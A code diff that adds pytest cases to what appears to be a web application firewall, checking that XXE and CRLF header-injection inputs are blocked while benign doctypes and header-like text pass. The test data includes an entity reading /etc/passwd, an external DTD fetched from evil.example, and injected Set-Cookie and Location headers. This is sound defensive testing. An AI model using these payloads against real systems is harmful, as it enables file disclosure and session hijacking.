@@ -1686,3 +1686,32 @@ def test_templates_and_code_near_template_injection_pass(text):
     found = inspect(as_json(text), "application/json")
     # (xss.template_injection asks about {{ ...__class__ }} as before)
     assert found.verdict != "block" and not any(r.startswith("cmdi.template") for r in found.rules), found
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
+        '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;]>',
+        "%0d%0aSet-Cookie: session=evil",
+        "http://shop.example/%0d%0aLocation: http://evil.example",
+        "en%0AContent-Length: 0",
+    ],
+)
+def test_external_entities_and_header_injection_block(payload):
+    assert inspect(as_json(payload), "application/json").verdict == "block"
+    form = urlencode({"next": payload}).encode()
+    assert inspect(form, "application/x-www-form-urlencoded").verdict == "block"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
+        "Dear team,\nLocation: Paris office\nDate: Monday",
+        "Request headers:\nContent-Type: application/json\nAccept: */*",  # a post quoting headers
+        '<!ENTITY nbsp "&#160;"> defines a named character in a DTD',
+    ],
+)
+def test_doctypes_and_header_lines_in_text_pass(text):
+    assert inspect(as_json(text), "application/json").verdict == "allow"
